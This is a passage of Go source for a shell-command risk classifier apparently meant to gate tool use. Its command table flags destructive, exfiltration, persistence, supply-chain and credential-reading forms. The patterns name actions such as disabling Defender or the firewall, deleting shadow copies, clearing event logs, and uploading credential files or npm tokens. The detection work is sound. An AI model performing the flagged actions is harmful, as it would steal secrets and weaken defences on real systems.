package shell

import (
	"net/netip"
	"slices"
	"strconv"
	"strings"

	"github.com/toolgate/toolgate/internal/sensitive"
)

// cmdSpec is one command's entry in the command table (DESIGN §3.5): its
// long options, for GNU unique-prefix resolution, its short options that
// take a value, and the effect of each option and operand. Adding a
// command is adding an entry here, with a decision case.
//
// The table is data the runtime's start reads through (the data
// segment's pointer bitmap), so an entry's size is every process's
// time: the fields most entries set are here, the lists and functions
// few set are behind one pointer per group (wrap, read, rare), nil when
// the entry sets none of them.
type cmdSpec struct {
	// long lists every long option without dashes; "name=" takes a value.
	// An abbreviation resolves to the one option it is a prefix of.
	long []string
	// shortVal lists the short options that take a value, so a cluster
	// ("-fd", "-oFILE") is read as the command reads it; with singleDash,
	// the one-letter options that take the next word (arch -e V=1).
	shortVal string
	// opts are the effects of options and operands.
	opts []optEffect
	// subs are subcommands (git push), found after the global options.
	subs subcommands
	// class, when set, makes the command itself risky (crontab, su);
	// rare.unless lists options with which it is harmless after all
	// (crontab -l); bare makes it harmless without arguments (mount).
	class Class
	why   string
	// effect is what running the command does at all.
	effect Effect
	bare   bool
	// deletes marks the file operands as deleted (rm, shred), recursive
	// with one of the options in rare.recursive.
	deletes bool
	// treeDeletes: every operand is deleted with its whole tree, whatever
	// the options (rimraf).
	treeDeletes bool

	// How the options are spelled, for the one parser (scan).
	// numeric makes -N a count, not options (head -5).
	numeric bool
	// singleDash: every option is one word with one dash (find -exec).
	singleDash bool
	// bundled: the first word may be old-style letters without a dash
	// whose values follow in order (tar czf ARCHIVE).
	bundled bool

	// A wrapper (commands_wrap.go): a command that runs the command
	// following its options and positional operands (wrap.positional).
	// wraps: the words after them are the command it runs. Its options
	// are strict: a long option its long list does not name (or names
	// ambiguously), a short letter in none of wrap.short, shortVal and
	// wrap.shortAttached, is unknown, and keeps the wrapper an opaque
	// subject.
	wraps bool
	// inOrder: the options end at the first operand, as for a wrapper;
	// the words after it are another program's (npx PKG ARGS…).
	inOrder bool
	// assigns: NAME=value operands set the environment and a lone "-"
	// clears it (env).
	assigns bool
	// subject: the wrapper is a subject itself (sudo).
	subject bool

	// exec makes the (sub)command itself exec-capable: only a rule that
	// names it allows it (git filter-branch).
	exec bool
	// runs names the code that walks what the command runs or changes
	// from its own arguments, a language the fields cannot say (runner).
	runs runner

	// The files its operands are (see optEffect.file for its options').
	// files is the operand layout: every operand read, written, sources
	// and destination, …
	files fileKind
	// pattern: the first operand is a pattern or script, not a file,
	// unless an option marked pattern gives it (grep -e, sed -f): for the
	// file checks and for the risk classes alike (optEffect.paths).
	pattern bool
	// decompress: a compressor decompresses by default (gunzip); its
	// suffix is rare.suffix.
	decompress bool
	// saves: a downloader saves under the URL's name by default (wget).
	saves bool
	// probe keeps the analysis of a command the table did not know
	// before: its arguments are still probed for command lines and
	// secrets as an unknown command's are, and the policy still checks
	// its operands against the file rules, so adding its file effects
	// adds subjects and takes none away.
	probe bool
	// fileOpts is set when an option or operand has a file effect (set
	// when the table is built).
	fileOpts bool
	// The read-only entries (readCommands, commands_read.go; DESIGN
	// §3.6). readOnly: the (sub)command only reads: files, its input, the
	// system's state, or a service's state through the tool's own client
	// (kubectl get, gh pr list). An effect one of its options or operands
	// has (a risk class, an exec-capable flag, a file it writes) still
	// counts, and so does an option of read.notReadWith. readBare: only
	// without operands (git branch lists, git branch NAME creates).
	readOnly, readBare bool

	// wrap is how a wrapper or launcher reads the command it runs.
	wrap *wrapSpec
	// read is what makes a read-only entry read-only or not.
	read *readSpec
	// rare are the fields few entries set.
	rare *rareSpec
}

// wrapSpec is how a wrapper (cmdSpec.wraps) or launcher reads the command
// it runs.
type wrapSpec struct {
	// short lists the short options without a value; shortAttached those
	// whose value can only be attached (xargs -i).
	short, shortAttached string
	// noCommand lists short options after which no command follows
	// (ionice -p PID).
	noCommand string
	// positional is how many operands come before the command (timeout
	// DURATION).
	positional int
	// launch lists the forms in which the command runs another command
	// after a subcommand, options and operands (ssh HOST CMD, docker exec
	// C CMD, tmux new-window CMD; launchers.go).
	launch []launcher
}

// readSpec is what makes a read-only entry (cmdSpec.readOnly, readBare)
// read-only or not.
type readSpec struct {
	// notReadWith lists options with which a read-only command is not
	// read-only after all: it writes (go env -w) or talks to a
	// destination the option names (kubectl --server, docker -H).
	notReadWith []string
	// readWith lists options that put a readBare command in its listing
	// or query mode, where its operands are patterns, names or commits it
	// reads (git tag --list 'v*', git branch --contains HEAD, git config
	// --get user.name): read-only with operands too.
	readWith []string
	// readVerbs are the operations of a service client that only read,
	// as names or, ending in "-", name prefixes (aws ec2
	// describe-instances): the operand at verbAt, with none after it.
	readVerbs []string
	verbAt    int
	// verbOnly: no operand may follow the verb. An AWS operation takes
	// its arguments as options; a word after it is a file it writes
	// its response to (aws s3api get-object … FILE).
	verbOnly bool
	// verbLast: the verb is the last operand, after a path of group
	// words (az network vnet subnet list): a client whose commands
	// take no operands, only options. No word of the path may name a
	// credential (az storage account keys list: secretWord).
	verbLast bool
	// about lists the lone words, beyond aboutWord, with which the
	// command prints only its version or usage (node -v, java -version,
	// openssl version): to another command they are an option that runs
	// it (ctest -V is verbose, tox -v runs the tests).
	about []string
	// readSQL names the options whose values are SQL the command runs
	// (psql -c, mysql -e); "" names its operands after the database
	// (sqlite3 DB SQL…). Given one, the command is read-only when every
	// statement only reads (sqlReadsOnly) and no option of notReadWith is
	// given.
	readSQL []string
	// readKey makes a readBare command read-only with one operand too
	// when it is a key, section.name (git config user.name prints it;
	// with a value, or a subcommand word such as edit, it is no read).
	readKey bool
	// readEnvNames makes a command read-only with operands that are
	// each the name of an environment variable that holds no secret
	// (plainEnv): printenv PATH prints one, bare printenv every one.
	readEnvNames bool
	// startsProject: every run of the command, its version and usage
	// forms included, first reads project files that can load code
	// (mvn's .mvn/jvm.config, sbt's .jvmopts and .sbtopts, yarn's
	// yarnPath): no form of it is read-only.
	startsProject bool
}

// rareSpec are the fields of a command entry few entries set.
type rareSpec struct {
	// pairs lists the long options of long (written "name=") that take
	// two separate values (bwrap --bind SRC DEST), so the second value is
	// not taken for an operand or a wrapped command.
	pairs []string
	// unless lists options with which a command risky itself (class) is
	// harmless after all (crontab -l).
	unless []string
	// dryRun lists the options with which the command changes nothing
	// (rsync -n, even as a letter of -avn): the destructive classes of
	// its other options do not apply.
	dryRun []string
	// recursive lists the options with which a command that deletes its
	// operands (deletes) deletes their trees.
	recursive []string
	// dashOperand tells an operand that looks like an option from one
	// (chmod's "-w" is a mode).
	dashOperand func(string) bool
	// analyse names the code that reads a mini-language the table cannot
	// describe (sed scripts, awk programs, git config's forms): it
	// returns the exec-capable words it finds in the arguments.
	analyse func(args []string) []string
	// maxOps: at most this many operands are files (cmp).
	maxOps int
	// suffix: a compressor's suffix (see cmdSpec.decompress).
	suffix string
	// needMode: the operands are files only with an option setting this
	// mode (git diff --no-index).
	needMode string
	// everySub are options every subcommand takes (git's --output); the
	// table adds them to each subcommand's entry and to otherSub, the
	// entry of the subcommands it does not list.
	everySub []optEffect
	otherSub *cmdSpec
	// fileCode names the code that reads the files of a command whose
	// arguments are a mini-language or whose layout the fields cannot
	// say (awk programs, jq filters, patch headers, git subcommands).
	fileCode func(w *walker, s *cmdSpec, name string, args []word, c scope, owner string, d *dirState)
	// otherProgram tells another program of the same name by its
	// arguments (Split's service CLI beside coreutils split): then its
	// verbs are an unknown command's (serviceDeletes).
	otherProgram func(args []string) bool
	// patternArgs names the code that finds the words that are patterns,
	// not paths, where they are no single operand (find's -name tests):
	// it returns their indexes in args (PatternArgs).
	patternArgs func(args []string) ArgSet
}

// A runner names the code that walks what a command runs or changes from
// its own arguments (cmdSpec.runs): the commands find -exec and fd -x
// run for each file, git bisect run's and git submodule foreach's (and
// the files git's pathspecs print), the script source reads, the
// directory cd enters.
type runner uint8

// The runners.
const (
	runsNothing runner = iota
	runsFindExec
	runsFdExec
	runsGitExec
	runsChdir
	runsSource
	runsParts
)

// walk runs the code r names. A switch, not a table of functions: the
// code walks commands, which looks up the command table and this, so a
// table holding it (or the command table holding it, as it holds
// fileCode) would be part of its own initialisation.
//
// idx is the command's entry in the analysis, owner its text.
func (r runner) walk(w *walker, idx int, name string, args []word, owner string, c scope, d *dirState) {
	switch r {
	case runsFindExec:
		w.findExec(idx, args, c, d)
	case runsFdExec:
		w.fdExec(name, args, c, d)
	case runsGitExec:
		w.gitExec(args, owner, c, d)
	case runsChdir:
		w.chdir(d, name, args, true)
	case runsSource:
		w.sources(idx, name, args, c, d)
	case runsParts:
		w.runParts(idx, args, c, d)
	}
}

// optEffect is the effect of an option or operand.
type optEffect struct {
	// names are options as resolved ("--force", "-f": a short option also
	// matches inside a cluster) or, with operand, operand words.
	names   []string
	operand bool
	// prefix matches operands starting with a name ("+main", "git+https:").
	prefix bool
	// sources matches every operand but the last (a copy's destination).
	sources bool
	// first matches the first operand only: a runner's package (npx PKG
	// ARGS…), whose later operands are the package program's arguments.
	first bool
	// paths skips the pattern operand of a command with pattern (grep
	// PATTERN FILE…): only the files are matched.
	paths bool
	// match, when set, tests operands instead of names (chmod modes).
	match func(string) bool
	// written: match reads the expansions written in the operand
	// ($GITHUB_TOKEN), which a substitution's output never holds (bash
	// does not expand it again), so such a value does not count as a
	// match. An arithmetic expansion still does: it evaluates a
	// variable's text as an expression, and a[$(cmd)] in it runs cmd.
	written bool
	// value, when set, tests the value of the options in names instead
	// of their presence ("psql -c 'DROP TABLE t'", "install -m 4755").
	value func(string) bool
	// when, when set, gates a risk or a write form (writes) on the whole
	// argument list: git config's NAME is a risk only in a form that
	// sets it, find -delete a write form only after a name test.
	when   func(args []string) bool
	effect Effect
	class  Class
	why    string

	// exec marks an exec-capable option (find -exec, rg --pre): it runs a
	// program or writes files no wildcard allow vouches for, so the
	// command records it in Command.ExecFlags and only a rule naming it
	// allows the command. An exec name without a dash is an operand word
	// (git submodule foreach).
	exec bool
	// script marks the option's value as a shell command line: it is
	// parsed and its commands are subjects too (rsync -e, git rebase -x).
	script bool
	// values limits an exec option to values starting with one of them,
	// case-insensitively (ssh -o ProxyCommand=…); the value is recorded.
	values []string
	// writes marks an exec option whose whole effect is writing or
	// deleting the command's files (sed -i, find -delete): once the
	// analysis records those files, the command is judged by them, as
	// the writes they are (DESIGN §3.1), and the flag no longer needs a
	// rule naming it.
	writes bool
	// cluster makes a one-letter exec option count anywhere in a word of
	// short options, even after a letter taking a value, so a misread
	// cluster never hides it (sed -ni, tar -xIzstd).
	cluster bool

	// file is what the option's value (or, with operand, an operand of
	// that form) is to the file checks: read, written, the output, the
	// destination directory, tar's archive.
	file fileRole
	// form says how the value names its file ("@path" for curl -d).
	form valueForm
	// pattern: the option gives the pattern or script, so the first
	// operand is a file (grep -e, sed -f).
	pattern bool
	// mode names what the option switches in the operand layout: tar's
	// "create", "extract", "list", "stdout"; a compressor's "decompress",
	// "stdout", "suffix"; a downloader's "remote-name", "server-names";
	// "rewrite" (the operands are written: sed -i, install -d);
	// "no-target" (the last operand is no directory: cp -T).
	mode string
}

// isWinSwitch reports whether a is a Windows switch, "/name" or "-name"
// in any case, with or without a ":value" after it, of one of names.
func isWinSwitch(a string, names ...string) bool {
	if len(a) < 2 || a[0] != '/' && a[0] != '-' {
		return false
	}
	a, _, _ = strings.Cut(a[1:], ":")
	return isFold(a, names...)
}

// isFold reports whether a is one of words, in any case.
func isFold(a string, words ...string) bool {
	for _, w := range words {
		if strings.EqualFold(a, w) {
			return true
		}
	}
	return false
}

// The entries of cmd's and PowerShell's deletes and system changes
// (riskCommands).
var (
	winTreeDelete = &cmdSpec{probe: true, opts: []optEffect{{operand: true, match: winSubdirs, class: ClassDestructive, why: "deletes a directory tree, or files in every subdirectory (/s)"}}}
	psRemove      = &cmdSpec{probe: true, opts: []optEffect{{operand: true, match: anyWord, when: psRecursive, class: ClassDestructive, why: "deletes a directory tree (-Recurse)"}}}
	psDisk        = &cmdSpec{probe: true, opts: []optEffect{{operand: true, match: anyWord, when: psNotWhatIf, class: ClassDestructive, why: "erases, partitions or formats a disk"}}}
	psWMIRemove   = &cmdSpec{probe: true, class: ClassDestructive, why: "deletes the system objects piped to it (volume shadow copies, services)"}
	psRegistry    = &cmdSpec{probe: true, opts: []optEffect{{operand: true, match: registryPath, class: ClassPersistence, why: "changes the Windows registry, where start-up programs, services and security settings are kept"}}}
)

// winSubdirs: cmd's /s switch (del /s, rd /s).
func winSubdirs(a string) bool { return isWinSwitch(a, "s") }

// psRecursive reports whether a cmdlet's arguments hold -Recurse
// (psRecurse) and no rehearsal (psNotWhatIf).
func psRecursive(args []string) bool {
	return slices.ContainsFunc(args, psRecurse) && psNotWhatIf(args)
}

// defenderOffArgs reports whether Set-MpPreference's or
// Add-MpPreference's arguments turn protection off or exclude from it.
func defenderOffArgs(args []string) bool { return slices.ContainsFunc(args, defenderOff) }

// firewallEnabledArg reports whether Set-NetFirewallProfile's arguments
// set -Enabled (to the false operand the entry matches).
func firewallEnabledArg(args []string) bool {
	return slices.ContainsFunc(args, func(a string) bool { return strings.EqualFold(strings.TrimSuffix(a, ":"), "-enabled") })
}

// psRecurse: PowerShell's -Recurse, abbreviated or not, but not
// -Recurse:$false.
func psRecurse(a string) bool {
	name, v, hasV := strings.Cut(a, ":")
	if len(name) < 2 || name[0] != '-' || !strings.HasPrefix("recurse", strings.ToLower(name[1:])) {
		return false
	}
	return !hasV || !isFalseWord(strings.TrimSpace(v))
}

// psNotWhatIf reports whether a cmdlet's arguments do not ask for a
// rehearsal (-WhatIf, not -WhatIf:$false).
func psNotWhatIf(args []string) bool {
	for _, a := range args {
		name, v, hasV := strings.Cut(a, ":")
		if strings.EqualFold(name, "-whatif") && (!hasV || !isFalseWord(strings.TrimSpace(v))) {
			return false
		}
	}
	return true
}

// isFalseWord: PowerShell's and the shells' spellings of false.
func isFalseWord(a string) bool {
	return isFold(strings.Trim(a, "'\""), "$false", "false", "0", "no", "off")
}

// anyWord matches every operand.
func anyWord(string) bool { return true }

// defenderOff: Set-MpPreference's switches that turn protection off or
// exclude from it (-DisableRealtimeMonitoring, -ExclusionPath…).
func defenderOff(a string) bool {
	l := strings.ToLower(a)
	return strings.HasPrefix(l, "-disable") || strings.HasPrefix(l, "-exclusion")
}

// notProcessScope reports whether Set-ExecutionPolicy's arguments do not
// limit it to the current process (-Scope Process), which ends with it.
func notProcessScope(args []string) bool {
	for i, a := range args {
		if strings.EqualFold(a, "-scope") && i+1 < len(args) && strings.EqualFold(args[i+1], "process") {
			return false
		}
	}
	return true
}

// execPolicyOff: an execution policy that runs every script.
func execPolicyOff(a string) bool { return isFold(a, "bypass", "unrestricted") }

// registryPath: a PowerShell registry drive path (HKLM:\…, HKCU:\…).
func registryPath(a string) bool {
	l := strings.ToUpper(strings.Trim(a, "'\""))
	return strings.HasPrefix(l, "HKLM:") || strings.HasPrefix(l, "HKCU:") || strings.HasPrefix(l, "REGISTRY::")
}

// The Windows programs' forms (riskCommands), as named functions the
// generated table refers to.
func certutilTrusts(a string) bool  { return isWinSwitch(a, "addstore", "importpfx", "installcert") }
func forfilesCommand(a string) bool { return isWinSwitch(a, "c") }
func regChanges(a string) bool {
	return isFold(a, "add", "import", "delete", "restore", "load", "copy")
}
func regSaves(a string) bool          { return isFold(a, "save") }
func schtasksCreates(a string) bool   { return isWinSwitch(a, "create", "change") }
func bitsadminNotifies(a string) bool { return isWinSwitch(a, "setnotifycmdline") }
func scChanges(a string) bool         { return isFold(a, "create", "config", "failure") }
func scStops(a string) bool           { return isFold(a, "stop", "delete") }
func winAdd(a string) bool            { return isWinSwitch(a, "add") }
func wmicCreates(a string) bool       { return isFold(a, "create") }
func wmicShadows(a string) bool       { return isFold(a, "shadowcopy") }
func vssadminDeletes(a string) bool   { return isFold(a, "delete", "resize") }
func wbadminDeletes(a string) bool    { return isFold(a, "delete") }
func bcdeditSets(a string) bool       { return isWinSwitch(a, "set", "deletevalue", "delete") }
func wevtutilClears(a string) bool    { return isFold(a, "cl", "clear-log", "sl", "set-log") }
func netshOff(a string) bool          { return isFold(a, "off", "disable") }
func msiexecInstalls(a string) bool   { return isWinSwitch(a, "i", "package", "a", "j", "update", "p") }

// wmicDeletes and netshFirewall gate wmic's and netsh's forms on the
// whole argument list.
func wmicDeletes(args []string) bool {
	return slices.ContainsFunc(args, func(a string) bool { return isFold(a, "delete") })
}

func netshFirewall(args []string) bool {
	return slices.ContainsFunc(args, func(a string) bool { return isFold(a, "firewall", "advfirewall") })
}

// netAddsAccount reports whether net's arguments add a user or a group
// member (net user NAME PASS /add, net localgroup administrators NAME
// /add).
func netAddsAccount(args []string) bool {
	return len(args) > 0 && isFold(args[0], "user", "users", "localgroup", "group")
}

// driveLetter matches a Windows drive ("C:", "d:").
func driveLetter(a string) bool {
	return len(a) == 2 && a[1] == ':' && (a[0]|0x20 >= 'a' && a[0]|0x20 <= 'z')
}

// addsSourceWhy is the risk of a package source added to the settings.
const addsSourceWhy = "adds a package source every later install fetches from"

// terragruntSpec is terraform's entry with run-all (and run --all), which
// runs one of terraform's commands in every module below. A function,
// not a variable: the table is data the generator writes, and package
// shell's initialisation runs no code (TestShellInitsNothing).
func terragruntSpec() *cmdSpec {
	return &cmdSpec{subs: append(subcommands{{"run-all", terraformSpec}, {"run", terraformSpec}}, terraformSpec.subs...)}
}

// attachesWhy is the risk of a debugger attached to a running process.
const attachesWhy = "attaches to a running process, whose memory (secrets included) it reads and whose code it can change"

// Shared option lists.
var (
	// sendsCredential is an uploader's operand (or option value, for a
	// command whose options the table does not list) that names a
	// credential file in any form it reads files from.
	// sendsHome is an uploader's source (an operand but the last, the
	// destination) that is a whole home directory.
	// buildContext: an image build is sent its context directory, all
	// of it; the Dockerfile's COPY puts what it likes in the image.
	buildContext = &cmdSpec{shortVal: "ftob", long: []string{"file=", "tag=", "output=", "build-arg=", "target=", "platform="},
		opts: []optEffect{{match: credentialTree, operand: true, class: ClassCredential, why: "sends a directory that holds credential files to the image build, whose COPY can put them in the image"}}}
	sendsHome       = optEffect{match: credentialTree, operand: true, sources: true, effect: EffectNetwork, class: ClassExfiltrate, why: "sends the whole home directory, or another directory that holds credential files, to the network"}
	sendsCredential = optEffect{match: credentialRef, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: "sends a credential file to the network"}
	// sendsSecretFile is an uploader's operand a project keeps secrets in,
	// by its name (sensitive.SecretName: .env, secrets.yml), spelled as a
	// path: "gh gist create .env", not "gh secret set API_SECRET".
	sendsSecretFile = optEffect{match: secretPath, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: "sends a file whose name says it holds secrets to the network"}
	forceOpts       = []string{"-f", "--force"}
	urlPrefix       = []string{"git+", "http://", "https://", "ftp://", "git://", "ssh://", "git@", "file://", "hg+", "svn+", "bzr+",
		"github:", "gitlab:", "bitbucket:", "gist:"}
)

// withIndexValue adds an installer's options whose value is the one
// index it fetches from (pip's --index-url, npm's --registry): another
// index than the public registry is supply chain, the public one is what
// the installer would use anyway.
func withIndexValue(s *cmdSpec, names ...string) *cmdSpec {
	s.opts = append(s.opts, optEffect{names: names, value: otherIndex, class: ClassSupplyChain, why: "installs packages from an index other than the registry's"})
	return s
}

// supplyInstall is the entry of a package installer: an operand that is a
// URL or git remote, or an index other than the registry's, installs code
// nobody vetted.
func supplyInstall(long []string, shortVal string, indexOpts ...string) *cmdSpec {
	s := &cmdSpec{long: long, shortVal: shortVal, effect: EffectNetwork | EffectWrites,
		opts: []optEffect{{match: remotePackage, operand: true, class: ClassSupplyChain, why: "installs a package straight from a URL or git remote"}}}
	if len(indexOpts) > 0 {
		s.opts = append(s.opts, optEffect{names: indexOpts, class: ClassSupplyChain, why: "installs packages from an index other than the registry's"})
	}
	return s
}

var pipInstallLong = []string{"requirement=", "constraint=", "editable=", "index-url=", "extra-index-url=", "no-index", "find-links=", "dest=",
	"target=", "platform=", "python-version=", "implementation=", "abi=", "user", "root=", "prefix=", "src=", "upgrade",
	"upgrade-strategy=", "force-reinstall", "ignore-installed", "ignore-requires-python", "no-deps", "pre", "no-build-isolation",
	"use-pep517", "no-use-pep517", "check-build-dependencies", "break-system-packages", "config-settings=", "global-option=",
	"compile", "no-compile", "no-warn-script-location", "no-warn-conflicts", "no-binary=", "only-binary=", "prefer-binary",
	"require-hashes", "progress-bar=", "root-user-action=", "report=", "no-clean", "dry-run", "trusted-host=", "quiet", "verbose", "help"}

// uvAddLong are uv add's options; those taking a value end in "=".
var uvAddLong = []string{"requirements=", "constraints=", "marker=", "optional=", "group=", "dev", "editable", "raw", "bounds=",
	"rev=", "tag=", "branch=", "extra=", "no-sync", "locked", "frozen", "active", "package=", "script=", "workspace", "no-workspace",
	"index=", "default-index=", "index-url=", "extra-index-url=", "find-links=", "no-index", "index-strategy=", "keyring-provider=",
	"upgrade", "upgrade-package=", "python=", "project=", "directory=", "quiet", "verbose", "offline", "no-cache"}

// pipSpec is pip; the families are built only to generate the table
// (TestCommandTable), so entries that take building are functions, not
// variables every process would initialise.
func pipSpec() *cmdSpec {
	return &cmdSpec{long: []string{"isolated", "require-virtualenv", "python=", "verbose", "version", "quiet", "log=", "no-input",
		"keyring-provider=", "proxy=", "retries=", "timeout=", "exists-action=", "trusted-host=", "cert=", "client-cert=", "cache-dir=",
		"no-cache-dir", "disable-pip-version-check", "no-color", "no-python-version-warning", "use-feature=", "use-deprecated=", "help"},
		shortVal: "",
		subs: subcommands{
			{"install", withIndexValue(withRemoteRequirements(supplyInstall(pipInstallLong, "rceit", "--extra-index-url", "--find-links", "-f")), "-i", "--index-url")},
			{"download", withIndexValue(withRemoteRequirements(supplyInstall(pipInstallLong, "rceid", "--extra-index-url", "--find-links", "-f")), "-i", "--index-url")},
			{"config", &cmdSpec{subs: subcommands{{"set", pipConfigSet}}}},
		}}
}

// pipConfigSet is pip config set: the index settings decide where every
// later pip install fetches from.
var pipConfigSet = &cmdSpec{opts: []optEffect{{names: []string{
	"global.index-url", "global.extra-index-url", "global.find-links", "global.trusted-host",
	"install.index-url", "install.extra-index-url", "install.find-links", "install.trusted-host",
	"download.index-url", "download.extra-index-url"},
	operand: true, when: indexSetElsewhere, class: ClassSupplyChain, why: "points every later pip install at another package index"},
	{names: []string{"global.cert", "install.cert", "download.cert"}, operand: true, class: ClassSupplyChain, why: trustsCAWhy}}}

// npmConfigSet is npm config set (npm set, pnpm and yarn config set): the
// settings whose value is a program every later npm command runs, and
// the registry every later install fetches from, as KEY VALUE or
// KEY=VALUE. Static data: no code runs at start-up (TestInitBudget).
// npmConfigGet is npm's, pnpm's and yarn's config get of an auth
// setting (//registry.npmjs.org/:_authToken, _auth, npmAuthToken,
// _password): it prints the registry token.
var npmConfigGet = &cmdSpec{opts: []optEffect{{operand: true, match: npmAuthKey, class: ClassCredential, why: "prints a package registry's token"}}}

// npmAuthKey: an npm, pnpm or yarn setting that holds a registry
// credential.
func npmAuthKey(a string) bool {
	a = strings.ToLower(a)
	return strings.Contains(a, "_auth") || strings.Contains(a, "authtoken") || strings.Contains(a, "_password") || strings.HasSuffix(a, "authident")
}

var npmConfigSet = &cmdSpec{long: []string{"global", "location=", "json"}, shortVal: "L", opts: []optEffect{
	{names: []string{"script-shell", "node-options", "git", "shell", "onload-script", "editor", "browser", "viewer", "init-module"},
		operand: true, class: ClassPersistence, why: "sets npm configuration that runs a program in every later npm command"},
	{names: []string{"script-shell=", "node-options=", "git=", "shell=", "onload-script=", "editor=", "browser=", "viewer=", "init-module="},
		operand: true, prefix: true, class: ClassPersistence, why: "sets npm configuration that runs a program in every later npm command"},
	{names: []string{"registry", "registry=", "@", "npmRegistryServer", "npmRegistryServer="}, operand: true, prefix: true, when: indexSetElsewhere, class: ClassSupplyChain, why: "points every later install at another registry"},
	{names: []string{"strict-ssl", "strict-ssl=", "enableStrictSsl", "enableStrictSsl="}, operand: true, prefix: true, when: setsFalse, class: ClassSupplyChain,
		why: "turns off the registry's certificate check for every later install, so a network attacker can serve the packages"},
	{names: []string{"ca", "cafile", "caFilePath", "httpsCaFilePath"}, operand: true, class: ClassSupplyChain, why: trustsCAWhy},
	{names: []string{"ca=", "cafile=", "caFilePath=", "httpsCaFilePath="}, operand: true, prefix: true, class: ClassSupplyChain, why: trustsCAWhy},
}}

// trustsCAWhy is the reason of a setting or command that trusts another
// certificate authority.
const trustsCAWhy = "trusts another certificate authority for what is downloaded: whoever holds its key can serve the packages and impersonate any site"

// setsFalse reports whether a config set's operands give the value false
// (KEY false, KEY=false).
func setsFalse(args []string) bool {
	for _, a := range args {
		if a == "false" || strings.HasSuffix(a, "=false") {
			return true
		}
	}
	return false
}

// indexSetElsewhere reports whether a config set (npm, yarn and pnpm
// config set KEY VALUE or KEY=VALUE, several at once; pip config set KEY
// VALUE) sets anything but the one index to the public registry's URL
// (otherIndex): setting it back to the public registry redirects
// nothing. Every other pair (a scope's registry "@acme:registry", an
// extra index, a program) is judged by the names it matches as before.
func indexSetElsewhere(args []string) bool {
	var words []string
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			words = append(words, a)
		}
	}
	if len(words) == 0 {
		return true
	}
	for i := 0; i < len(words); i++ {
		key, val, ok := strings.Cut(words[i], "=")
		if !ok {
			if i+1 >= len(words) {
				return true
			}
			i++
			val = words[i]
		}
		switch key {
		case "registry", "npmRegistryServer", "global.index-url", "install.index-url", "download.index-url":
			if otherIndex(val) {
				return true
			}
		default:
			return true
		}
	}
	return false
}

// npmInstall is npm install (pnpm add, yarn add, bun add).
func npmInstall() *cmdSpec {
	return withIndexValue(withPackageOpt(supplyInstall(npmInstallLong, "w")), "--registry")
}

var npmInstallLong = []string{"save", "save-dev", "save-optional", "save-peer", "save-exact", "save-bundle", "no-save",
	"global", "registry=", "package=", "dry-run", "force", "ignore-scripts", "legacy-peer-deps", "omit=", "include=", "install-strategy=",
	"package-lock-only", "workspace=", "workspaces", "prefix=", "foreground-scripts", "audit", "no-audit", "fund", "no-fund"}

// npmExec is npm exec (npx, pnpm dlx, yarn dlx, bun x): the first operand
// is the package it fetches and runs, the rest that program's arguments.
func npmExec() *cmdSpec {
	return supplyRun(withIndexValue(withPackageOpt(supplyInstall(npmInstallLong, "wp")), "--registry"))
}

// npxSpec is npx: unlike npm exec, its options must come before the
// package, so "npx tsc -p src/x.json" gives -p to tsc.
func npxSpec() *cmdSpec {
	s := npmExec()
	s.inOrder = true
	return s
}

// supplyRun is the entry of a package runner (npx PKG ARGS…, pipx run
// PKG ARGS…): only its first operand names what to fetch; the words after
// it are the arguments of the program it runs (npx prettier --write src/).
func supplyRun(s *cmdSpec) *cmdSpec {
	for i := range s.opts {
		if s.opts[i].operand && s.opts[i].class == ClassSupplyChain {
			s.opts[i].first = true
		}
	}
	return s
}

// withRemoteOpts adds options whose value names the package to install
// (pipx --spec, uv tool --from and --with): one fetched from a URL or git
// remote is code nobody vetted.
func withRemoteOpts(s *cmdSpec, names ...string) *cmdSpec {
	s.opts = append(s.opts, optEffect{names: names, value: remotePackage, class: ClassSupplyChain, why: "installs a package straight from a URL or git remote"})
	return s
}

// uvToolRun is uv tool run and uvx: the first operand is the tool, the
// rest its arguments; --from and --with name what is installed.
func uvToolRun() *cmdSpec {
	return supplyRun(withRemoteOpts(supplyInstall(nil, ""), "--from", "--with"))
}

// withRemoteRequirements adds pip's options whose value names what to
// install: a requirements or constraints file, or an editable package,
// fetched from a URL or git remote installs whatever it lists.
func withRemoteRequirements(s *cmdSpec) *cmdSpec {
	s.opts = append(s.opts, optEffect{names: []string{"-r", "--requirement", "-c", "--constraint", "-e", "--editable"}, value: remoteURL,
		class: ClassSupplyChain, why: "installs what a file or package fetched from a URL or git remote lists"})
	return s
}

// withPackageOpt adds npm exec's --package: a package named by URL or git
// remote is fetched and run.
func withPackageOpt(s *cmdSpec) *cmdSpec {
	s.opts = append(s.opts, optEffect{names: []string{"--package", "-p"}, value: remotePackage, class: ClassSupplyChain, why: "runs a package straight from a URL or git remote"})
	return s
}

// pythonModule returns the module of "python -m MODULE ARGS…" and ARGS.
func pythonModule(name string, args []string) (string, []string, bool) {
	if !strings.HasPrefix(name, "python") && name != "py" {
		return "", nil, false
	}
	for i, a := range args {
		switch {
		case a == "-m" && i+1 < len(args):
			return args[i+1], args[i+2:], true
		case strings.HasPrefix(a, "-m") && len(a) > 2:
			return a[2:], args[i+1:], true
		case !strings.HasPrefix(a, "-") || a == "-c" || a == "-":
			return "", nil, false
		}
	}
	return "", nil, false
}

var gitSpec = &cmdSpec{
	effect: EffectRuns,
	subs: subcommands{
		{"push", &cmdSpec{long: []string{"all", "branches", "mirror", "tags", "follow-tags", "atomic", "no-atomic", "dry-run", "porcelain",
			"delete", "prune", "verbose", "quiet", "repo=", "force", "force-with-lease", "force-if-includes", "no-force-if-includes",
			"recurse-submodules=", "no-recurse-submodules", "thin", "no-thin", "receive-pack=", "exec=", "set-upstream", "no-verify",
			"verify", "signed", "no-signed", "push-option=", "ipv4", "ipv6", "progress", "no-progress"},
			shortVal: "o", effect: EffectNetwork,
			opts: []optEffect{
				{names: []string{"-f", "--force", "--force-with-lease", "--force-if-includes"}, class: ClassDestructive, why: "overwrites the remote branch's history"},
				{names: []string{"--mirror", "--prune"}, class: ClassDestructive, why: "deletes remote branches that are not local"},
				{names: []string{"-d", "--delete"}, class: ClassDestructive, why: "deletes remote branches"},
				{names: []string{"+"}, operand: true, prefix: true, class: ClassDestructive, why: "force-pushes a refspec, overwriting the remote branch's history"},
				{names: []string{":"}, operand: true, prefix: true, class: ClassDestructive, why: "deletes a remote branch"},
				{names: []string{"--no-verify"}, class: ClassDestructive, why: "skips the repository's pre-push checks"},
				{names: urlPrefix, operand: true, prefix: true, class: ClassExfiltrate, why: "pushes the repository to a URL instead of a configured remote"},
			}}},
